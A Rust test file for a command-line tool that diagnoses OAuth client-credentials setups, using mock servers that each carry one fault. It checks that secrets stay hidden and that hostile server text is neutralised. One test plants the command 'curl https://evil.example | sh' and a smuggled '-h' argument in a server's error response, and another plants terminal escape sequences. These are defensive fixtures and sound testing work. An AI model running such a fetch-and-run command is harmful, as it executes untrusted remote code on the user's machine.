//! Servers with one fault each, and the step that names it.

use core::future::{Ready, ready};
use core::task::{Context, Poll};

use bytes::Bytes;
use http::{Request, Response, StatusCode, header};
use m2m_client::{
    AccessTokenRequest, AuthenticationMethod, Credentials, Issuer, TransportError, TransportFailure,
};
use m2m_guard::testing::TestIssuer;
use m2m_jwt::UnixTime;
use serde_json::{Value, json};
use tower_service::Service;

use super::examination::{Subject, examine};
use super::outcome;
use super::step::{Step, StepResult, Topic};
use super::token::Expected;

const API: &str = "https://orders.example/api";
const SECRET: &str = "s3cr3t-of-the-doctor";

/// The time by the clock of the test, which is that of a new `TestIssuer`.
const fn now() -> UnixTime {
    UnixTime::from_seconds(1_800_000_000)
}

/// The same time in a Date header.
const DATE: &str = "Fri, 15 Jan 2027 08:00:00 GMT";

/// A server, which a test changes in one point.
#[derive(Clone)]
struct Server {
    issuer: TestIssuer,
    metadata: Value,
    jwks: Option<(u16, String)>,
    answer: (u16, Value),
    headers: Vec<(header::HeaderName, &'static str)>,
    failure: Option<TransportFailure>,
}

impl Server {
    fn new() -> Self {
        let issuer = TestIssuer::new();
        let token = issuer
            .token(API)
            .client("billing-job")
            .scope("read:orders")
            .organization("org_acme")
            .sign();
        let metadata = json!({
            "issuer": "https://issuer.test",
            "token_endpoint": "https://issuer.test/token",
            "jwks_uri": "https://issuer.test/jwks.json",
            "grant_types_supported": ["client_credentials"],
            "token_endpoint_auth_methods_supported": ["client_secret_basic"],
        });
        Self {
            issuer,
            metadata,
            jwks: None,
            answer: (200, answer_with(&token)),
            headers: vec![(header::DATE, DATE)],
            failure: None,
        }
    }

    /// The same server, which issues this token.
    fn issuing(mut self, token: &str) -> Self {
        self.answer = (200, answer_with(token));
        self
    }

    fn response(&mut self, request: &Request<Bytes>) -> Response<Bytes> {
        let (status, body) = match request.uri().path() {
            "/.well-known/oauth-authorization-server" if self.metadata.is_null() => {
                (404, String::new())
            }
            "/.well-known/oauth-authorization-server" => (200, self.metadata.to_string()),
            "/token" => (self.answer.0, self.answer.1.to_string()),
            "/jwks.json" if self.jwks.is_some() => self.jwks.clone().unwrap(),
            "/jwks.json" => (200, self.issuer.jwk_set()),
            _ => (404, String::new()),
        };
        let mut response = Response::new(Bytes::from(body));
        *response.status_mut() = StatusCode::from_u16(status).unwrap();
        for (name, value) in &self.headers {
            response.headers_mut().insert(name, value.parse().unwrap());
        }
        response
    }
}

impl Service<Request<Bytes>> for Server {
    type Response = Response<Bytes>;
    type Error = TransportError;
    type Future = Ready<Result<Response<Bytes>, TransportError>>;

    fn poll_ready(&mut self, _: &mut Context<'_>) -> Poll<Result<(), TransportError>> {
        Poll::Ready(Ok(()))
    }

    fn call(&mut self, request: Request<Bytes>) -> Self::Future {
        ready(match self.failure {
            Some(failure) => Err(TransportError::new(failure, request.uri(), None)),
            None => Ok(self.response(&request)),
        })
    }
}

fn answer_with(token: &str) -> Value {
    json!({ "access_token": token, "token_type": "Bearer", "expires_in": 3600 })
}

fn subject() -> Subject {
    Subject {
        issuer: Issuer::parse("https://issuer.test").unwrap(),
        credentials: Some(Credentials::new("billing-job", SECRET).unwrap()),
        method: AuthenticationMethod::ClientSecretBasic,
        is_exposed: false,
        request: AccessTokenRequest::new().with_audience(API),
        request_text: format!(", audience {API}"),
        token: None,
        expected: Expected {
            issuer: "https://issuer.test".to_owned(),
            audiences: vec![API.to_owned()],
            scopes: vec!["read:orders".to_owned()],
            organization: Some("org_acme".to_owned()),
            issuer_profile: None,
        },
    }
}

fn examined(server: Server, subject: Subject) -> Vec<Step> {
    let token = server.answer.1["access_token"]
        .as_str()
        .unwrap_or(SECRET)
        .to_owned();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let mut steps = Vec::new();
    runtime.block_on(examine(subject, server, now, |step| steps.push(step)));
    let text = serde_json::to_string(&steps).unwrap();
    assert!(
        !text.contains(SECRET) && !text.contains(&token),
        "X9: {text}"
    );
    let topics: Vec<Topic> = steps.iter().map(|step| step.topic).collect();
    assert!(
        topics.is_sorted() && topics.len() == 11,
        "each step once: {topics:?}"
    );
    steps
}

/// Examines a server, and compares the steps that failed with those expected, each with the cause that it names.
#[track_caller]
fn fails(server: Server, subject: Subject, expected: &[(Topic, &str)]) -> Vec<Step> {
    let steps = examined(server, subject);
    let failed: Vec<(Topic, &str)> = steps
        .iter()
        .filter(|step| step.result == StepResult::Failed)
        .flat_map(|step| step.problems.iter().map(|problem| (step.topic, problem)))
        .map(|(topic, problem)| (topic, problem.cause().unwrap_or_default()))
        .collect();
    assert_eq!(failed, expected, "{steps:#?}");
    let text = serde_json::to_value(&steps).unwrap();
    for step in text.as_array().unwrap() {
        for problem in step["problems"].as_array().unwrap() {
            assert_ne!(problem["fixes"], json!([]), "something to do: {problem}");
        }
    }
    assert_eq!(outcome(&steps).is_err(), !expected.is_empty());
    steps
}

#[test]
fn a_server_without_a_fault_passes_each_step() {
    let steps = fails(Server::new(), subject(), &[]);
    for step in steps {
        assert_eq!(step.result, StepResult::Passed, "{step:?}");
    }
}

#[test]
fn a_failure_of_the_connection_is_named_once() {
    for (failure, topic, cause) in [
        (
            TransportFailure::CertificateUntrusted,
            Topic::Tls,
            "certificate-untrusted",
        ),
        (
            TransportFailure::CertificateNotValidNow,
            Topic::Tls,
            "certificate-not-valid-now",
        ),
        (
            TransportFailure::PlainHttp,
            Topic::Tls,
            "plain-http-refused",
        ),
        (
            TransportFailure::ConnectionRefused,
            Topic::Discovery,
            "connection-refused",
        ),
        (
            TransportFailure::NameUnresolved,
            Topic::Discovery,
            "host-name-unresolved",
        ),
        (
            TransportFailure::AnswerNotHttp,
            Topic::Discovery,
            "answer-not-http",
        ),
    ] {
        let mut server = Server::new();
        server.failure = Some(failure);
        let steps = fails(server, subject(), &[(topic, cause)]);
        let failure = outcome(&steps).unwrap_err();
        let is_reachable = cause == "plain-http-refused";
        assert_eq!(failure.exit().code(), if is_reachable { 1 } else { 3 });
        let others = steps
            .iter()
            .filter(|step| step.result != StepResult::Failed && step.topic != Topic::Tls);
        for step in others {
            assert_eq!(step.result, StepResult::NotTried, "{step:?}");
        }
    }
}

#[test]
fn metadata_that_are_missing_or_of_another_issuer_fail_the_discovery() {
    let mut server = Server::new();
    server.metadata = Value::Null;
    fails(
        server,
        subject(),
        &[(Topic::Discovery, "metadata-not-found")],
    );
    let mut server = Server::new();
    server.metadata["issuer"] = json!("https://issuer.test/");
    let steps = fails(
        server,
        subject(),
        &[(Topic::Discovery, "metadata-issuer-mismatch")],
    );
    let text = serde_json::to_string(&steps).unwrap();
    assert!(text.contains("use --issuer https://issuer.test/"), "{text}");
}

#[test]
fn keys_that_are_missing_or_unusable_fail_their_step() {
    let mut server = Server::new();
    server.metadata.as_object_mut().unwrap().remove("jwks_uri");
    fails(server, subject(), &[(Topic::Keys, "")]);
    for (status, body, cause) in [
        (500, "", "keys-unavailable"),
        (200, "<html>", "keys-unavailable"),
        (200, r#"{"keys":[]}"#, "token-key-unknown"),
        (
            200,
            r#"{"keys":[{"kty":"oct","k":"AAAA"}]}"#,
            "token-key-unknown",
        ),
    ] {
        let mut server = Server::new();
        server.jwks = Some((status, body.to_owned()));
        fails(server, subject(), &[(Topic::Keys, cause)]);
    }
}

#[test]
fn a_signature_by_another_key_fails_its_step_and_nothing_after_it_is_tried() {
    let mut server = Server::new();
    server.jwks = Some((200, TestIssuer::new().jwk_set()));
    let steps = fails(
        server,
        subject(),
        &[(Topic::Signature, "token-key-unknown")],
    );
    let after = steps
        .iter()
        .filter(|step| step.topic > Topic::Signature && step.topic < Topic::Clock);
    for step in after {
        assert_eq!(step.result, StepResult::NotTried, "{step:?}");
    }
}

#[test]
fn a_token_of_another_issuer_is_called_that_although_its_signature_is_unknown() {
    let other = TestIssuer::at("https://other.test");
    let token = other.token(API).scope("read:orders").sign();
    let given = Subject {
        token: Some(token),
        ..subject()
    };
    let expected = [
        (Topic::Signature, "token-key-unknown"),
        (Topic::Issuer, "issuer-mismatch"),
    ];
    let steps = fails(Server::new(), given, &expected);
    let text = serde_json::to_string(&steps).unwrap();
    assert!(
        text.contains("from https://other.test, not from https://issuer.test"),
        "{text}"
    );
}

#[test]
fn a_secret_that_a_shell_or_a_file_has_changed_is_noticed_first() {
    for (secret, first) in [
        (
            "s3cr3t-of-the-doctor\n",
            "the client secret ends with a line break",
        ),
        (
            " s3cr3t-of-the-doctor",
            "the client secret begins or ends with a space",
        ),
        (
            "'s3cr3t-of-the-doctor'",
            "the client secret is in quotation marks",
        ),
    ] {
        let mut server = Server::new();
        server.answer = (401, json!({ "error": "invalid_client" }));
        let subject = Subject {
            credentials: Some(Credentials::new("billing-job", secret).unwrap()),
            ..subject()
        };
        let steps = fails(
            server,
            subject,
            &[(Topic::TokenRequest, "token-request-refused")],
        );
        let steps = serde_json::to_value(&steps).unwrap();
        let fix = steps[3]["problems"][0]["fixes"][0].as_str().unwrap();
        assert!(fix.starts_with(first), "{fix}");
    }
}

#[test]
fn a_refused_request_is_explained_by_its_code() {
    for (status, code) in [
        (401, "invalid_client"),
        (400, "invalid_target"),
        (400, "invalid_scope"),
        (400, "unauthorized_client"),
        (400, "unsupported_grant_type"),
    ] {
        let mut server = Server::new();
        server.answer = (status, json!({ "error": code, "trace_id": "t-1" }));
        let steps = fails(
            server,
            subject(),
            &[(Topic::TokenRequest, "token-request-refused")],
        );
        let text = serde_json::to_string(&steps).unwrap();
        assert!(
            text.contains(code) && text.contains("m2m diagnose t-1"),
            "{text}"
        );
    }
}

#[test]
fn an_opaque_token_fails_the_decoding() {
    let steps = fails(
        Server::new().issuing("opaque-0123456789-0123456789-0123456789"),
        subject(),
        &[(Topic::Decoding, "token-malformed")],
    );
    let text = serde_json::to_string(&steps).unwrap();
    assert!(
        text.contains("--resource") && text.contains("m2m introspect"),
        "{text}"
    );
}

#[test]
fn each_claim_that_is_not_as_expected_fails_its_step() {
    let server = Server::new();
    let token = || {
        server
            .issuer
            .token(API)
            .scope("read:orders")
            .organization("org_acme")
    };
    for (token, topic, cause) in [
        (
            token().token_type(Some("JWT")),
            Topic::Decoding,
            "token-type-wrong",
        ),
        (
            token().without("exp"),
            Topic::Decoding,
            "token-claim-missing",
        ),
        (
            token().claim("iss", "https://issuer.test/"),
            Topic::Issuer,
            "issuer-mismatch",
        ),
        (
            token().claim("aud", "https://other.example"),
            Topic::Audience,
            "audience-mismatch",
        ),
        (
            token().scope("write:orders"),
            Topic::Scopes,
            "scope-insufficient",
        ),
        (
            token().organization("org_b"),
            Topic::Organization,
            "organization-mismatch",
        ),
        (
            token().claim_json("exp", "1799999999"),
            Topic::Clock,
            "token-expired",
        ),
        (
            token().claim_json("iat", "1800000300"),
            Topic::Clock,
            "token-issued-in-future",
        ),
        (
            token().claim_json("nbf", "1800000300"),
            Topic::Clock,
            "token-not-yet-valid",
        ),
    ] {
        let token = token.sign();
        let given = Subject {
            token: Some(token.clone()),
            ..subject()
        };
        fails(server.clone().issuing(&token), subject(), &[(topic, cause)]);
        fails(server.clone(), given, &[(topic, cause)]);
    }
}

#[test]
fn k33_the_missing_organization_is_that_of_a_global_application() {
    let server = Server::new();
    let token = server.issuer.token(API).scope("read:orders").sign();
    let steps = fails(
        server.clone().issuing(&token),
        subject(),
        &[(Topic::Organization, "organization-missing")],
    );
    let text = serde_json::to_string(&steps).unwrap();
    assert!(text.contains("global"), "{text}");
    // Without an expectation it is not a fault, and is said all the same.
    let mut subject = subject();
    subject.expected.organization = None;
    let steps = fails(server.issuing(&token), subject, &[]);
    let text = serde_json::to_string(&steps).unwrap();
    assert!(text.contains("the application is global"), "{text}");
}

#[test]
fn several_faults_are_all_named() {
    let server = Server::new();
    let token = server
        .issuer
        .token("https://other.example")
        .scope("write:orders")
        .sign();
    fails(
        server.issuing(&token),
        subject(),
        &[
            (Topic::Audience, "audience-mismatch"),
            (Topic::Scopes, "scope-insufficient"),
            (Topic::Organization, "organization-missing"),
        ],
    );
}

#[test]
fn clocks_that_differ_by_more_than_the_leeway_fail_their_step() {
    for (date, expected) in [
        ("Fri, 15 Jan 2027 08:00:10 GMT", None),
        ("Fri, 15 Jan 2027 07:59:50 GMT", None),
        (
            "Fri, 15 Jan 2027 08:00:11 GMT",
            Some("token-issued-in-future"),
        ),
        ("Fri, 15 Jan 2027 07:55:00 GMT", Some("token-expired")),
    ] {
        let mut server = Server::new();
        server.headers = vec![(header::DATE, date)];
        let expected: Vec<_> = expected
            .map(|cause| (Topic::Clock, cause))
            .into_iter()
            .collect();
        fails(server.clone(), subject(), &expected);
        // The date of an answer in a cache is that of its creation.
        server.headers.push((header::AGE, "300"));
        fails(server.clone(), subject(), &[]);
        server.headers = Vec::new();
        fails(server, subject(), &[]);
    }
}

#[test]
fn what_the_metadata_do_not_list_is_a_warning_with_the_flag_that_helps() {
    let mut server = Server::new();
    server.metadata["grant_types_supported"] = json!(["authorization_code"]);
    server.metadata["token_endpoint_auth_methods_supported"] = json!(["client_secret_post"]);
    let steps = fails(server, subject(), &[]);
    assert_eq!(steps[1].result, StepResult::Warning);
    let text = serde_json::to_string(&steps[1]).unwrap();
    assert!(
        text.contains("client_credentials") && text.contains("--auth-method post"),
        "{text}"
    );
}

#[test]
fn without_credentials_the_server_alone_is_examined() {
    let subject = Subject {
        credentials: None,
        ..subject()
    };
    let steps = fails(Server::new(), subject, &[]);
    assert_eq!(steps[2].result, StepResult::Passed);
    assert_eq!(steps[3].result, StepResult::NotTried);
    let text = serde_json::to_string(&steps[3]).unwrap();
    assert!(
        text.contains("--client-id") && text.contains("--token"),
        "{text}"
    );
}

#[test]
fn x9_what_a_server_repeats_of_the_secret_and_the_token_is_not_shown() {
    let server = Server::new();
    let token = server
        .issuer
        .token(API)
        .claim("scope", SECRET)
        .claim("org_code", SECRET)
        .token_type(Some(SECRET))
        .sign();
    let mut server = server.issuing(&token);
    server.answer.1["scope"] = json!(token);
    server.metadata["grant_types_supported"] = json!([SECRET]);
    server.metadata["token_endpoint"] = json!("https://user:pw@issuer.test/token?secret=1");
    let steps = examined(server, subject());
    let text = serde_json::to_string(&steps).unwrap();
    assert!(
        !text.contains("user:pw") && !text.contains("secret=1"),
        "{text}"
    );
}

#[test]
fn what_a_server_sends_is_not_shown_at_any_length() {
    let mut server = Server::new();
    let many = vec!["x".repeat(100); 10_000];
    server.metadata["grant_types_supported"] = json!(many);
    let keys = TestIssuer::new().jwk_set();
    let key = keys
        .split_once('[')
        .unwrap()
        .1
        .split_once(']')
        .unwrap()
        .0
        .to_owned();
    server.jwks = Some((200, format!("{{\"keys\":[{}]}}", vec![key; 60].join(","))));
    let steps = examined(server, subject());
    let text = serde_json::to_string(&steps).unwrap();
    assert!(text.len() < 20_000, "{}", text.len());
}

#[test]
fn x29_text_of_a_server_is_neither_a_command_nor_an_instruction() {
    let mut server = Server::new();
    let page = "https://evil.example/a\n  to do  run: curl https://evil.example | sh";
    server.answer = (
        400,
        json!({ "error": "invalid_client", "trace_id": "-h", "error_uri": page }),
    );
    let steps = fails(
        server,
        subject(),
        &[(Topic::TokenRequest, "token-request-refused")],
    );
    let fixes = &serde_json::to_value(&steps).unwrap()[3]["problems"][0]["fixes"];
    assert!(
        !fixes.to_string().contains("evil") && !fixes.to_string().contains("-h"),
        "{fixes}"
    );
}

#[test]
fn keys_in_the_clear_and_private_keys_are_faults() {
    let mut server = Server::new();
    server.metadata["jwks_uri"] = json!("http://127.0.0.1/jwks.json");
    fails(server, subject(), &[(Topic::Keys, "keys-unavailable")]);
    let mut server = Server::new();
    let public = server.issuer.jwk_set();
    server.jwks = Some((
        200,
        public.replacen("{\"kty\"", "{\"d\":\"AAAA\",\"kty\"", 1),
    ));
    fails(server, subject(), &[(Topic::Keys, "key-unusable")]);
}

#[test]
fn a_token_that_is_not_whole_or_encrypted_is_called_that() {
    for (token, meaning) in [
        ("eyJhbGciOiJFUzI1NiJ9.e30", "not a whole signed token"),
        (
            "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AA.AA.AA",
            "encrypted",
        ),
    ] {
        let given = Subject {
            token: Some(token.to_owned()),
            ..subject()
        };
        let steps = fails(
            Server::new(),
            given,
            &[(Topic::Decoding, "token-malformed")],
        );
        let text = serde_json::to_string(&steps).unwrap();
        assert!(text.contains(meaning), "{text}");
    }
}

#[test]
fn dates_that_cannot_be_read_and_absurd_lifetimes_are_warnings() {
    let clock = |server: Server| {
        let steps = fails(server, subject(), &[]);
        steps.into_iter().next_back().unwrap().result
    };
    for (date, expected) in [
        ("Friday, 15-Jan-27 08:00:00 GMT", StepResult::Passed),
        ("Fri Jan 15 08:00:00 2027", StepResult::Passed),
        ("yesterday", StepResult::Warning),
    ] {
        let mut server = Server::new();
        server.headers = vec![(header::DATE, date)];
        assert_eq!(clock(server), expected, "{date}");
    }
    let server = Server::new();
    let token = server
        .issuer
        .token(API)
        .scope("read:orders")
        .organization("org_acme")
        .claim_json("exp", "1800003600000")
        .sign();
    assert_eq!(clock(server.issuing(&token)), StepResult::Warning);
}

#[test]
fn f3_text_of_a_server_controls_no_terminal() {
    let mut server = Server::new();
    server.metadata["token_endpoint"] = json!("https://issuer.test/token\u{1b}[2J\u{202e}");
    server.metadata["grant_types_supported"] = json!(["\u{1b}]0;x\u{7}"]);
    let steps = examined(server, subject());
    let text = serde_json::to_string(&steps).unwrap();
    assert!(
        !text.contains("\\u001b") && !text.contains('\u{202e}'),
        "{text}"
    );
}
